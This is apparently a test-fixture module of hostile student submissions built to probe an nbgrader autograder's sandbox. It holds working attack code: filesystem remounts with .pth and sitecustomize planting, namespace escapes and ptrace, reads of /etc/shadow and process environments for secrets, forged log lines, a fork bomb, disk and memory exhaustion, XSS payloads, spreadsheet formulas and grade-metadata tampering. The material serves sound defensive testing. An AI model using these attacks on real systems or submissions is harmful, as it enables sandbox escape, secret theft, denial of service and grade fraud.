"""A second hostile class, written against the grader of issue 18 by a student who has read all of it
and whose kernel may run as root (scores and checks: tests/grading/test_grading_hostile2.py).

Each student hands in TD 1's notebook 02 only (loss 2, gradient 3, train 3 points). An attack on the
machine or on the grader's process goes with correct functions, which must keep their points, and
prints what it managed, so that the test sees it ran; an attack on a verdict goes with a wrong
function, or hides in the function it sends, and that cell must get 0. Every attack bounds itself
(time, memory, disk, processes), so that a defence that does not hold costs CI minutes, not hours.
The folder names no student could choose (``a,b``, a newline, ``-rf``, symlinks…) are made by the
test itself, in a copy of this class.
"""

import importlib.util
from pathlib import Path

import nbformat

ASSIGNMENT = "td1_neurone_regression"
LINEAR = "02_regression_lineaire"
MARKER = "hostile2-b81e5d"  # in every file, line and payload an attack leaves behind, if it can
# The test puts this variable in the grader's environment; no kernel may ever read it.
SECRET_VARIABLE = "AUTOGRADE_TEST_SECRET"
# A fake student the pipe attack names in forged nbgrader progress lines.
PHANTOM = "eleve_fantome"
HANG_S = 20  # seconds of each hang of a replayed cell (twice the test's cell limit)

_spec = importlib.util.spec_from_file_location("td1_samples", Path(__file__).with_name(f"{ASSIGNMENT}.py"))
_td1 = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_td1)
REGRESSION = _td1.REGRESSION


def linear(**cells):
    """Only notebook 02: the correct answers with ``cells`` replaced."""
    return {LINEAR: {**REGRESSION, **cells}}


def _fill(code: str) -> str:
    return (
        code.replace("MARKER", MARKER)
        .replace("SECRET_VARIABLE", SECRET_VARIABLE)
        .replace("PHANTOM", PHANTOM)
        .replace("HANG_S", str(HANG_S))
    )


def attack_then_correct_gradient(attack: str) -> dict:
    """An attack run at the top of the gradient cell, then the correct gradient."""
    return linear(gradient=_fill(attack) + REGRESSION["gradient"])


CRASHES = 6  # cells of rejeu_sans_fin that kill the kernel


def crash(number: int) -> str:
    """A cell of rejeu_sans_fin that says its number, then kills the kernel."""
    return f"""
import os
import time

print("plantage n°{number}", flush=True)
time.sleep(0.5)
os._exit(1)
"""


WRONG_GRADIENT = """
def gradient(x, y_hat, y):
    return 0.0, 0.0
"""

# ------------------------------------------------------------------------------------- payloads
# Script in every form a browser runs, each carrying the marker (the test looks for it in the pages).
XSS = _fill("""<script>alert("xss-MARKER")</script>
<img src="x" onerror="alert('xss-MARKER')">
<a href="javascript:alert('xss-MARKER')">mon lien</a>
<svg onload="alert('xss-MARKER')"><circle r="5"></circle></svg>
<iframe srcdoc="&lt;script&gt;alert('xss-MARKER')&lt;/script&gt;"></iframe>
<details open ontoggle="alert('xss-MARKER')"><summary>détails</summary></details>
<form action="javascript:alert('xss-MARKER')"><button>envoyer</button></form>
<object data="javascript:alert('xss-MARKER')"></object>
<embed src="javascript:alert('xss-MARKER')">
<meta http-equiv="refresh" content="0;url=javascript:alert('xss-MARKER')">
<base href="javascript:alert('xss-MARKER')//">
<math><mtext><table><mglyph><style><img src=x onerror="alert('xss-MARKER')"></style></mglyph></table></mtext></math>""")

# Written into a notebook's metadata and file name, places the student controls and a teacher's
# tools may copy into grades.csv or notes_moodle.csv.
FORMULAS = ['=HYPERLINK("http://x","y")', "+SOMME(1;2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


STUDENTS = {
    # Honest students graded in the same run: their grades must stay exactly theirs.
    "alice_honnete": linear(),
    "bruno_signe_inverse": linear(
        gradient="""
def gradient(x, y_hat, y):
    return float(np.mean((y - y_hat) * x)), float(np.mean(y - y_hat))
"""
    ),
    # ---- the sandbox, as root -----------------------------------------------------------------
    # Remounts the virtualenv, /usr, /etc and / read-write (the mount syscall and `mount -o remount,rw`),
    # then plants a .pth file and a sitecustomize.py in every site-packages: either would run in the
    # grader's own later processes (nbgrader generate_feedback, export). Their code only touches a file
    # in /tmp, which the test looks for.
    "remontage_rw": attack_then_correct_gradient("""
import ctypes
import os
import site
import subprocess
import sys
import sysconfig

_libc = ctypes.CDLL(None, use_errno=True)
_MS_REMOUNT, _MS_BIND = 32, 4096
_cibles = sorted({*site.getsitepackages(), sysconfig.get_paths()["purelib"], sys.prefix, sys.base_prefix,
                  os.path.realpath(sys.base_prefix), "/usr", "/usr/lib/python3/dist-packages", "/etc", "/"})
_remontés = []
for _cible in _cibles:
    if _libc.mount(b"none", _cible.encode(), None, _MS_REMOUNT | _MS_BIND, None) == 0:
        _remontés.append(_cible)
    try:
        if subprocess.run(["mount", "-o", "remount,rw", _cible], capture_output=True, timeout=10).returncode == 0:
            _remontés.append(_cible)
    except (OSError, subprocess.SubprocessError):
        pass
_plantés = []
_pth = "import os; os.path.exists('/tmp/MARKER-pth') or open('/tmp/MARKER-pth', 'w').close()\\n"
_custom = "open('/tmp/MARKER-sitecustomize', 'a').close()\\n"
for _dossier in sorted({*site.getsitepackages(), sysconfig.get_paths()["purelib"], "/usr/lib/python3/dist-packages"}):
    for _nom, _contenu in (("zz-MARKER.pth", _pth), ("sitecustomize.py", _custom)):
        _chemin = os.path.join(_dossier, _nom)
        if _nom == "sitecustomize.py" and os.path.exists(_chemin):
            continue  # (a real attacker would overwrite it; this test must not destroy a machine's own)
        try:
            with open(_chemin, "w") as _f:
                _f.write(_contenu)
            _plantés.append(_chemin)
        except OSError:
            pass
for _chemin in ("/usr/MARKER.txt", "/etc/MARKER.txt", os.path.join(sys.prefix, "MARKER.txt")):
    try:
        with open(_chemin, "w") as _f:
            _f.write("MARKER")
        _plantés.append(_chemin)
    except OSError:
        pass
print(f"remontages réussis : {len(_remontés)} {_remontés}")
print(f"fichiers plantés : {len(_plantés)} {_plantés}")

"""),
    # Leaves the sandbox's namespaces or enters others (unshare, setns, a new user namespace, in a
    # single-threaded child as the kernel requires), ptraces a neighbour process, uses the kernel
    # keyring, and says which uid and capabilities it has.
    "espaces_de_noms": attack_then_correct_gradient('''
import ctypes
import os
import subprocess
import time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_statut = dict(ligne.split(":", 1) for ligne in open("/proc/self/status").read().splitlines() if ":" in ligne)
print(f"uid : {os.getuid()} ; CapEff : {_statut['CapEff'].strip()} ; CapPrm : {_statut['CapPrm'].strip()}")


def _dans_un_enfant(action):
    """True when action() returns 0 in a forked, single-threaded child."""
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(0 if action() == 0 else 1)
        except BaseException:
            os._exit(2)
    return os.waitpid(pid, 0)[1] == 0


def _entrer(espace):
    fd = os.open(f"/proc/1/ns/{espace}", os.O_RDONLY)
    return _libc.setns(fd, 0)


_réussies = []
for _nom, _drapeau in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000), ("pid", 0x20000000),
                       ("uts", 0x04000000), ("ipc", 0x08000000), ("cgroup", 0x02000000)):
    if _dans_un_enfant(lambda d=_drapeau: _libc.unshare(d)):
        _réussies.append(f"unshare {_nom}")
for _espace in ("mnt", "user", "net", "pid", "uts"):
    if _dans_un_enfant(lambda e=_espace: _entrer(e)):
        _réussies.append(f"setns {_espace}")
for _commande in (["unshare", "-Ur", "true"], ["unshare", "-m", "true"], ["unshare", "-n", "true"],
                  ["nsenter", "-t", "1", "-m", "true"]):
    try:
        if subprocess.run(_commande, capture_output=True, timeout=10).returncode == 0:
            _réussies.append(" ".join(_commande))
    except (OSError, subprocess.SubprocessError):
        pass
_voisin = os.fork()
if _voisin == 0:
    time.sleep(5)
    os._exit(0)
for _cible in (_voisin, 1):
    if _libc.ptrace(16, _cible, None, None) == 0:  # PTRACE_ATTACH
        _réussies.append(f"ptrace {'voisin' if _cible == _voisin else 'pid 1'}")
        try:
            os.waitpid(_cible, 0)
        except ChildProcessError:
            time.sleep(0.2)
        _libc.ptrace(17, _cible, None, None)  # PTRACE_DETACH
os.kill(_voisin, 9)
os.waitpid(_voisin, 0)
_add_key = {"x86_64": 248, "aarch64": 217}.get(os.uname().machine)
if _add_key and _libc.syscall(_add_key, b"user", b"MARKER", b"x", 1, -2) >= 0:
    _réussies.append("add_key")
print(f"évasions réussies : {len(_réussies)} {_réussies}")

'''),
    # Reads what no student has business reading: /etc/shadow, the environment of every process it
    # can see (bubblewrap's own, pid 1, held the grader's), other users' homes.
    "secrets_du_correcteur": attack_then_correct_gradient("""
import glob
import os

_trouvés = []
for _chemin in ["/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        _trouvés += [v for v in open(_chemin, "rb").read().decode(errors="replace").split("\\0")
                     if v.startswith("SECRET_VARIABLE")]
    except OSError:
        pass
_trouvés += [f"{k}={v}" for k, v in os.environ.items() if k == "SECRET_VARIABLE"]
print(f"secret trouvé : {'oui ' + ' '.join(sorted(set(_trouvés))) if _trouvés else 'non'}")
try:
    _shadow = open("/etc/shadow").read()
except OSError:
    _shadow = ""
print(f"shadow lisible : {'oui' if _shadow.strip() else 'non'}")  # an empty file in its place hides it
print(_shadow[:300])
_maisons = []
for _racine in ("/root", "/home"):
    try:
        _maisons += [os.path.join(_racine, n) for n in os.listdir(_racine) if n != ".pyenv"]
    except OSError:
        pass
print(f"dossiers personnels : {_maisons}")

"""),
    # ---- the grader's pipe ----------------------------------------------------------------------
    # nbgrader's "could not load the configuration" line and forged progress lines, written to fd 1, fd
    # 2, ipykernel's saved copies of the real stdout and stderr, and every pipe of the sandbox; then
    # 50 MB of stderr (non-blocking writes, 30 s at most).
    "canal_nbgrader": attack_then_correct_gradient("""
import glob
import os
import sys
import time

_POISON = ("[AutogradeApp | ERROR] Exception while loading config file /cours/nbgrader_config.py\\n"
           "[AutogradeApp | INFO] Sanitizing /cours/submitted/PHANTOM/td1_neurone_regression/02_regression_lineaire.ipynb\\n"
           "Sanitizing /cours/submitted/PHANTOM/td1_neurone_regression/01_neurone.ipynb\\n").encode()
_fds = {1, 2}
for _flux in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    _copie = getattr(_flux, "_original_stdstream_copy", None)
    if isinstance(_copie, int):
        _fds.add(_copie)
for _lien in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if os.readlink(_lien).startswith("pipe:"):
            _fds.add(os.open(_lien, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        pass
_empoisonnés = 0
for _fd in sorted(_fds):
    try:
        os.write(_fd, _POISON)
        _empoisonnés += 1
    except OSError:
        pass
print(f"canaux empoisonnés : {_empoisonnés}", flush=True)  # before the flood, which the output bounds cut
_ligne = (f"MARKER flot d'erreur {'x' * 80}\\n").encode()
_bloc = _ligne * (1_000_000 // len(_ligne))
_écrits, _fin = 0, time.monotonic() + 30
for _fd in (2, *[f for f in sorted(_fds) if f > 2]):
    _envoyés = 0
    while _envoyés < 50_000_000 and time.monotonic() < _fin:
        try:
            _envoyés += os.write(_fd, _bloc)
        except BlockingIOError:
            time.sleep(0.01)
        except OSError:
            break
    _écrits += _envoyés
    if _fd != 2 and _envoyés:
        break  # one real stderr flooded is enough
print(f"octets d'erreur écrits : {_écrits}")

"""),
    # ---- limits per kernel ------------------------------------------------------------------------
    # Four processes of 1.25 GB each (5 GB at most, for 6 s); the cell raises unless all four held,
    # so that the function defined after it exists only if the kernel's limit was per process.
    "memoire_quatre_processus": linear(
        gradient="""
import subprocess
import sys
import time

# Held: still alive 2 s after the allocation (a watchdog may take a moment to see it).
_GARDER = "import time; b = b'\\\\x01' * 1_250_000_000; time.sleep(2); print('tenu', flush=True); time.sleep(4)"
_enfants = [subprocess.Popen([sys.executable, "-c", _GARDER], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
            for _ in range(4)]
_tenus = sum(1 for e in _enfants if e.stdout.readline().strip() == b"tenu")
for _e in _enfants:
    _e.kill()
    _e.wait()
print(f"processus ayant tenu 1,25 Go : {_tenus}/4")
if _tenus < 4:
    raise MemoryError(f"seulement {_tenus} processus sur 4 ont tenu 1,25 Go")
"""
        + REGRESSION["gradient"]
    ),
    # A fork bomb, stopped by the attack itself at 300 processes, each gone after 3 s.
    "bombe_fork": attack_then_correct_gradient("""
import os
import time

_enfants, _refus = [], "aucun"
for _ in range(300):
    try:
        _pid = os.fork()
    except OSError as _erreur:
        _refus = type(_erreur).__name__
        break
    if _pid == 0:
        time.sleep(3)
        os._exit(0)
    _enfants.append(_pid)
for _pid in _enfants:
    os.waitpid(_pid, 0)
print(f"processus créés : {len(_enfants)} ; refus : {_refus}")

"""),
    # 50,000 files, then /tmp, the work folder and /dev/shm filled with 32 MB files up to 3 GB in all
    # (each file under the per-file limit); says what stopped each phase, then removes what it wrote.
    "disque_plein": attack_then_correct_gradient("""
import errno
import os
import shutil

_MO = b"\\0" * 2**20
_reste = 3 * 10**9
_arrêts = []
_fichiers = 0
os.makedirs("/tmp/petits", exist_ok=True)
try:
    for _i in range(50_000):
        with open(f"/tmp/petits/{_i}", "wb") as _f:
            _f.write(b"x")
        _fichiers += 1
except OSError as _erreur:
    _arrêts.append(errno.errorcode.get(_erreur.errno, str(_erreur.errno)))
shutil.rmtree("/tmp/petits", ignore_errors=True)
for _dossier in ("/tmp/gros", os.path.join(os.getcwd(), "gros"), "/dev/shm/gros"):
    _écrits, _arrêt = 0, "aucun"
    try:
        os.makedirs(_dossier, exist_ok=True)
        while _reste > 0:
            with open(os.path.join(_dossier, str(_écrits)), "wb") as _f:
                for _ in range(32):
                    _f.write(_MO)
                    _écrits += len(_MO)
                    _reste -= len(_MO)
    except OSError as _erreur:
        _arrêt = errno.errorcode.get(_erreur.errno, str(_erreur.errno))
    shutil.rmtree(_dossier, ignore_errors=True)
    print(f"{_dossier} : {_écrits // 2**20} Mo écrits, arrêt : {_arrêt}")
print(f"petits fichiers : {_fichiers}")

"""),
    # 40 large images (2.8 MB each, 112 MB in all) and 20,000 display() calls in one cell, after the
    # function it defines.
    "affichages_massifs": linear(
        train=REGRESSION["train"]
        + """

import io

import matplotlib.pyplot as plt
from IPython.display import Image, display

_tampon = io.BytesIO()
plt.imsave(_tampon, np.random.default_rng(0).integers(0, 255, size=(900, 900, 3), dtype=np.uint8), format="png")
for _i in range(40):
    display(Image(data=_tampon.getvalue()))  # 2.8 MB of noise, that no compression makes smaller
print("images envoyées : 40")
for _i in range(20_000):  # about 10 s of CPU: the cell's time limit may well stop it, after the images
    display(f"affichage {_i}")
print("affichages envoyés")
"""
    ),
    # One 60 MB iopub message of nested empty lists, sent (already serialised, as a relayed message)
    # the first time `loss` is called: by the grader's hidden check.
    "message_geant": linear(
        loss=_fill("""
import os


def loss(y, y_hat):
    if not os.path.exists("/tmp/MARKER-envoyé"):
        open("/tmp/MARKER-envoyé", "w").close()
        noyau = get_ipython().kernel
        contenu = b'{"data": {"application/json": [' + b"[]," * 20_000_000 + b'[]]}, "metadata": {}}'
        noyau.session.send(noyau.iopub_socket, "display_data", content=contenu, parent=noyau.get_parent())
    total = 0.0
    for i in range(len(y)):
        total += (y_hat[i] - y[i]) ** 2
    return total / (2 * len(y))
""")
    ),
    # 100,000 nested brackets in one iopub message, the first time `gradient` is called.
    "crochets_imbriques": linear(
        gradient=_fill("""
import os


def gradient(x, y_hat, y):
    if not os.path.exists("/tmp/MARKER-envoyé"):
        open("/tmp/MARKER-envoyé", "w").close()
        noyau = get_ipython().kernel
        contenu = b'{"data": {"application/json": ' + b"[" * 100_000 + b"]" * 100_000 + b'}, "metadata": {}}'
        noyau.session.send(noyau.iopub_socket, "display_data", content=contenu, parent=noyau.get_parent())
    n = len(x)
    dw, db = 0.0, 0.0
    for xi, yhi, yi in zip(x, y_hat, y):
        dw += (yhi - yi) * xi
        db += yhi - yi
    return dw / n, db / n
""")
    ),
    # ---- time ------------------------------------------------------------------------------------
    # `loss` is right and graded before anything goes wrong. Replayed after a crash (a replay is sent
    # with store_history false; a restarted kernel may also find the file its first run left in /tmp),
    # its cell hangs HANG_S s, swallowing the interrupt, three quarters spinning, one quarter asleep.
    # Six cells crash the kernel (os._exit): gradient, train and the notebook's own four after them (see
    # DAMAGE), each first saying its number. Every crash is one more replay, one more hang.
    "rejeu_sans_fin": linear(
        loss=_fill("""
import os
import time

_demande = get_ipython().kernel.get_parent().get("content", {})
if os.path.exists("/tmp/premier_passage") or _demande.get("store_history") is False:
    _fin = time.monotonic() + HANG_S
    while time.monotonic() < _fin:
        try:
            _tour = time.monotonic() + 0.75
            while time.monotonic() < _tour:
                pass
            time.sleep(0.25)
        except KeyboardInterrupt:
            pass
open("/tmp/premier_passage", "a").close()
""")
        + REGRESSION["loss"],
        gradient=crash(1) + WRONG_GRADIENT,
        train=crash(2),
    ),
    # ---- the teacher's browser ---------------------------------------------------------------------
    # Script in a Markdown cell of its own, in both written answers, and in its outputs (HTML,
    # JavaScript, SVG, Markdown), with correct functions.
    "html_hostile": linear(
        reponse_gradient=XSS,
        reponse_pas_apprentissage="Voir ci-dessous.\n\n" + XSS,
        gradient='''
from IPython.display import HTML, SVG, Javascript, Markdown, display

_XSS = """XSS_PAYLOAD"""
display(HTML(_XSS))
display(Markdown(_XSS))
display(Javascript("alert('xss-MARKER')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\\'xss-MARKER\\')"><script>alert("xss-MARKER")</script></svg>'))
display({"text/html": _XSS, "text/markdown": _XSS, "image/svg+xml": _XSS}, raw=True)
print(_XSS)
'''.replace("XSS_PAYLOAD", XSS).replace("MARKER", MARKER)
        + REGRESSION["gradient"],
    ),
    # ---- nbgrader's metadata -----------------------------------------------------------------------
    # A wrong gradient, whose locked test cell it turned into an answer cell (`solution: true`, its
    # hidden tests deleted), the points of the other test cells raised, and an extra graded cell worth
    # 50 points (see DAMAGE): only its correct loss and train may count, at their release points.
    "metadonnees_truquees": linear(gradient=WRONG_GRADIENT),
    # ---- spreadsheet formulas --------------------------------------------------------------------------
    # Formulas in the notebook's metadata (the kernel's display name, the title, the authors) and in
    # its file name (see DAMAGE), with correct functions.
    "formules_tableur": linear(),
    # ---- symlinks -----------------------------------------------------------------------------------
    # Correct functions; prints whatever its folder's links lead to. In this class it has no link and
    # reads nothing; the test gives a copy of it links to the solution and to another student's work.
    "lecteur_de_liens": attack_then_correct_gradient("""
import os

_lus = []
for _racine, _dossiers, _fichiers in os.walk(os.getcwd(), followlinks=True):
    for _nom in _fichiers:
        try:
            with open(os.path.join(_racine, _nom), errors="replace") as _f:
                _lus.append(f"{_nom} : {_f.read(3000)}")
        except OSError:
            pass
    if len(_lus) > 30:
        break
print(f"fichiers lus : {len(_lus)}")
print("\\n".join(_lus)[:8000])

"""),
}


def _cell(nb, grade_id):
    [cell] = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]
    return cell


def _tampered(nb):
    """test_gradient made an answer cell without its hidden tests, the points of test_loss and test_train
    raised, the checksums changed, and a 50-point graded cell added after test_train."""
    test = _cell(nb, "test_gradient")
    test.metadata.nbgrader.update(solution=True, locked=False)
    test.source = "# je me note moi-même\nprint('gradient vérifié : tout est juste')"
    for grade_id, points in (("test_loss", 20), ("test_train", 30)):
        cell = _cell(nb, grade_id)
        cell.metadata.nbgrader["points"] = points
        cell.metadata.nbgrader["checksum"] = "0" * 32
    bonus = nbformat.v4.new_code_cell("print('bonus : 50 points')", id="bonus")  # a fixed id: a stable build
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
        "checksum": "f" * 32,
    }
    nb.cells.insert(nb.cells.index(_cell(nb, "test_train")) + 1, bonus)
    return nbformat.writes(nb).encode()


def _formulas(nb):
    """The kernel's display name, the title and the authors are formulas, and so is the file's name."""
    nb.metadata["kernelspec"]["display_name"] = FORMULAS[0]
    nb.metadata["title"] = FORMULAS[1]
    nb.metadata["authors"] = [{"name": formula} for formula in FORMULAS]
    return "=1+2.ipynb", nbformat.writes(nb).encode()


def _markdown_with_script(nb):
    """A Markdown cell of the student's own, carrying script, at the top of the notebook."""
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("## Mes notes\n\n" + XSS, id="mes-notes"))
    return nbformat.writes(nb).encode()


def _crashing_after_train(nb):
    """The notebook's own code cells after train crash the kernel too."""
    after_train = nb.cells[nb.cells.index(_cell(nb, "test_train")) + 1 :]
    mine = [c for c in after_train if c.cell_type == "code"]
    assert len(mine) == CRASHES - 2, len(mine)
    for number, cell in enumerate(mine, start=3):
        cell.source = crash(number).strip("\n")
    return nbformat.writes(nb).encode()


DAMAGE = {
    "metadonnees_truquees": {LINEAR: _tampered},
    "formules_tableur": {LINEAR: _formulas},
    "html_hostile": {LINEAR: _markdown_with_script},
    "rejeu_sans_fin": {LINEAR: _crashing_after_train},
}
